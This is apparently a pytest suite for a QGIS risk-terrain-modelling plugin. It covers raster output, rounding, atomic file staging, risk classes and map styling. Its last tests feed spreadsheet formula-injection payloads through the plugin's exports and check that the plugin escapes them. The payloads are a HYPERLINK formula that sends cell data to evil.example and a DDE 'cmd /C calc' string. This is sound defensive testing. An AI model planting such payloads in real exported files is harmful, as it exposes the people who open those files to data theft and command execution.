"""Rasters, styles and destinations: the right numbers, the same bytes, whole files or none."""

import csv
import json
import zipfile

import numpy as np
import pytest
from osgeo import gdal
from qgis import processing
from qgis.core import QgsCoordinateReferenceSystem, QgsRasterLayer, QgsVectorLayer

from risk_terrain_modelling.processing_provider import staging
from risk_terrain_modelling.processing_provider.destinations import file_of
from risk_terrain_modelling.processing_provider.writing import rasters, styles
from risk_terrain_modelling.processing_provider.writing.provenance import Provenance
from risk_terrain_modelling.rtm_plugin import rounding
from risk_terrain_modelling.rtm_plugin.errors import RtmError
from risk_terrain_modelling.rtm_plugin.model.risk_classes import CLASSES, NO_DIFFERENCE, classify
from risk_terrain_modelling.rtm_plugin.space.grid import StudyGrid

CRS = QgsCoordinateReferenceSystem("EPSG:27700")


@pytest.fixture
def grid():
    mask = np.ones((3, 4), dtype=bool)
    mask[0, 0] = False
    return StudyGrid(530000.0, 180150.0, 50.0, mask)


def _write(path, grid, scores):
    mean, sd = scores.mean(), scores.std(ddof=1)
    items = {styles.MEAN_ITEM: str(mean), styles.SD_ITEM: str(sd)}
    bands = [("score", scores, items), ("expected", scores / 10, {})]
    rasters.write_raster(path, grid, CRS, bands, Provenance("rtm:test", {"a": "é"}, 1).items())


def test_a_raster_holds_what_it_was_given(grid, tmp_path):
    path = tmp_path / "risk é.tif"
    scores = np.arange(1.0, 12.0)
    _write(path, grid, scores)
    dataset = gdal.Open(str(path))
    assert dataset.GetGeoTransform() == (530000.0, 50.0, 0.0, 180150.0, 0.0, -50.0)
    band = dataset.GetRasterBand(1)
    assert band.GetNoDataValue() == rasters.NO_DATA
    assert band.ReadAsArray().tolist() == grid.raster(scores, rasters.NO_DATA).tolist()
    assert dataset.GetRasterBand(2).ReadAsArray()[2, 3] == 1.1
    assert [dataset.GetRasterBand(n).GetDescription() for n in (1, 2)] == ["score", "expected"]
    assert json.loads(dataset.GetMetadataItem("RTM_PARAMETERS")) == {"a": "é"}
    assert QgsRasterLayer(str(path)).crs().authid() == "EPSG:27700"
    assert [file.name for file in tmp_path.iterdir()] == ["risk é.tif"], "no file of statistics beside it"


def test_noise_in_the_last_digits_does_not_change_a_byte(grid, tmp_path):
    scores = np.exp(np.linspace(0, 3, 11))
    _write(tmp_path / "one.tif", grid, scores)
    rasters.write_raster(
        tmp_path / "two.tif",
        grid,
        CRS,
        [
            (
                "score",
                scores * (1 + 2e-16),
                {styles.MEAN_ITEM: str(scores.mean()), styles.SD_ITEM: str(scores.std(ddof=1))},
            ),
            ("expected", scores / 10, {}),
        ],
        Provenance("rtm:test", {"a": "é"}, 1).items(),
    )
    assert (tmp_path / "one.tif").read_bytes() == (tmp_path / "two.tif").read_bytes()


def test_tidy_numbers_are_their_ten_digits():
    assert rounding.tidy([1 / 3, 1e-20 / 3, -0.0, np.nan])[:2].tolist() == [0.3333333333, 3.333333333e-21]
    assert rounding.tidy_json({"a": [0.1 + 0.2, float("nan")], "b": 2}) == {"a": [0.3, None], "b": 2}


def test_staged_files_appear_together_or_not_at_all(tmp_path):
    old = tmp_path / "old.txt"
    old.write_text("before")
    with pytest.raises(RuntimeError), staging.staged() as stage:
        stage(old).write_text("after")
        stage(tmp_path / "new" / "new.txt").write_text("new")
        raise RuntimeError("cancelled")
    assert old.read_text() == "before"
    assert [path.name for path in tmp_path.rglob("*.txt")] == ["old.txt"]
    with staging.staged() as stage:
        stage(old).write_text("after")
    assert old.read_text() == "after"
    assert not list(tmp_path.rglob("*.part"))


def test_a_destination_that_cannot_be_written_is_named(tmp_path):
    (tmp_path / "file").write_text("")
    for value in ("memory:", "TEMPORARY_OUTPUT", ""):
        assert file_of(value) == (None, "")
    staging.check_writable(tmp_path / "new folder" / "a.tif")
    with pytest.raises(RtmError, match=r"cannot be written.*choose another folder"):
        staging.check_writable(tmp_path / "file" / "a.tif")


def test_classes_are_open_above_and_the_null_model_has_one():
    assert classify([1.0, 2.0, 3.0, 3.5, 4.0, 4.1], 2.0, 1.0).tolist() == [
        CLASSES[0],
        CLASSES[0],
        CLASSES[1],
        CLASSES[2],
        CLASSES[2],
        CLASSES[3],
    ]
    assert classify([1.0, 1.0], 1.0, 0.0).tolist() == [NO_DIFFERENCE] * 2


def test_the_map_has_four_classes_with_words(grid, tmp_path, provider):
    scores = np.array([1.0] * 8 + [2.0, 4.0, 30.0])
    _write(tmp_path / "risk.tif", grid, scores)
    terrain = QgsRasterLayer(str(tmp_path / "risk.tif"), "risk")
    styles.paint_risk_terrain(terrain)
    items = terrain.renderer().shader().rasterShaderFunction().colorRampItemList()
    assert [item.value for item in items[:3]] == pytest.approx(
        [scores.mean() + n * scores.std(ddof=1) for n in range(3)]
    )
    assert items[3].label.startswith("Highest risk: above mean + 2 SD")
    assert terrain.renderer().shader().rasterShaderFunction().shade(30.0)[1:4] == (215, 48, 31)
    assert terrain.renderer().shader().rasterShaderFunction().shade(1.0)[1:4] == (254, 240, 217)


def test_classes_of_other_softwares_raster_are_of_what_its_numbers_stand_for(tmp_path, provider):
    """Scale and offset count, cells without a value do not; nothing is left beside the file."""
    path = str(tmp_path / "scaled.tif")
    stored = np.array([[0, 10, -9999], [30, 40, 500]])
    data = gdal.GetDriverByName("GTiff").Create(path, 3, 2, 1, gdal.GDT_Int16)
    data.SetProjection(CRS.toWkt())
    data.GetRasterBand(1).WriteArray(stored)
    data.GetRasterBand(1).SetNoDataValue(-9999)
    data.GetRasterBand(1).SetScale(-0.5)
    data.GetRasterBand(1).SetOffset(300.0)
    data = None
    terrain = QgsRasterLayer(path, "scaled")
    styles.paint_risk_terrain(terrain)
    items = terrain.renderer().shader().rasterShaderFunction().colorRampItemList()
    scores = np.where(stored == -9999, np.nan, 300.0 - 0.5 * stored)
    assert terrain.dataProvider().block(1, terrain.extent(), 3, 2).value(1, 2) == scores[1, 2] == 50.0
    known = scores[np.isfinite(scores)]
    assert [item.value for item in items[:3]] == pytest.approx([known.mean() + n * known.std(ddof=1) for n in range(3)])
    assert [one.name for one in tmp_path.iterdir()] == ["scaled.tif"]


def test_the_null_models_map_has_one_class_that_says_so(grid, tmp_path, provider):
    _write(tmp_path / "risk.tif", grid, np.ones(11))
    terrain = QgsRasterLayer(str(tmp_path / "risk.tif"), "risk")
    styles.paint_risk_terrain(terrain)
    items = terrain.renderer().shader().rasterShaderFunction().colorRampItemList()
    assert [item.label for item in items] == ["Same risk everywhere: no risk factor met the criteria"]


def test_classes_stay_apart_in_grey_print():
    grey = [0.299 * int(c[1:3], 16) + 0.587 * int(c[3:5], 16) + 0.114 * int(c[5:7], 16) for c in styles.COLOURS]
    assert all(lighter - darker > 25 for lighter, darker in zip(grey, grey[1:]))


HOSTILE = '=HYPERLINK("http://evil.example?x="&A1,"look")'


@pytest.mark.parametrize("suffix", ["csv", "CSV", "ods", "gpkg"])
def test_text_that_a_spreadsheet_would_run_is_only_text(make_layer, tmp_path, suffix):
    rows = [
        ["@SUM(A1)", -5.5, "-7"],
        ["\t=1", 0.0, "+44 20"],
        ["-cmd|' /C calc'!A0", 1.0, "of:=1+1"],
        ["＝1", 2.0, "a=1"],
    ]
    wkts = [f"Point({x} 1)" for x in range(4)]
    fields = ["=1+1:string", "n:double", "t:string"]
    layer = make_layer(HOSTILE, "Point", wkts, fields=fields, rows=rows)
    output = processing.run("rtm:riskfactor", {"INPUT": layer, "OUTPUT": str(tmp_path / f"out.{suffix}")})["OUTPUT"]
    if suffix.lower() == "csv":
        with open(output, encoding="utf-8", newline="") as file:
            header, *found = csv.reader(file)
        assert header[:3] == ["'=1+1", "n", "t"]
        assert [row[0] for row in found] == ["'@SUM(A1)", "'\t=1", "'-cmd|' /C calc'!A0", "'＝1"]
        assert [float(row[1]) for row in found] == [-5.5, 0.0, 1.0, 2.0]
        assert [row[2] for row in found] == ["-7", "'+44 20", "of:=1+1", "a=1"], "numbers are not touched"
        assert {row[3] for row in found} == {"'" + HOSTILE}
    elif suffix == "ods":
        content = zipfile.ZipFile(output).read("content.xml").decode()
        assert "formula" not in content and "of:=1+1" in content
    else:
        written = QgsVectorLayer(output)
        assert [field.name() for field in written.fields()][1:4] == ["=1+1", "n", "t"]
        assert [feature.attributes()[1:4] for feature in written.getFeatures()] == rows
        assert {feature["rtm_factor"] for feature in written.getFeatures()} == {HOSTILE}


def test_a_factor_with_a_formula_for_a_name_is_text_in_every_table_of_a_model(town, tmp_path):
    town.bars.setName(HOSTILE)
    given = {"STUDY_AREA": town.area, "INCIDENTS": town.incidents, "FACTORS": [town.bars, town.shops]}
    tables = {key: str(tmp_path / f"{key}.csv") for key in ("MODEL_TABLE", "CANDIDATES", "CELLS")}
    given.update(tables, CELL_SIZE=100, FAMILIES="poisson", RISK_TERRAIN=str(tmp_path / "risk.tif"))
    processing.run("rtm:riskterrainmodel", given)
    for path in tables.values():
        with open(path, encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert any("HYPERLINK" in cell for cell in cells), "it is there, but as text"
        assert not [cell for cell in cells if cell[:1] in tuple("=+@\t\r") or (cell[:1] == "-" and not is_number(cell))]


def is_number(text):
    try:
        return bool(float(text)) or True
    except ValueError:
        return False
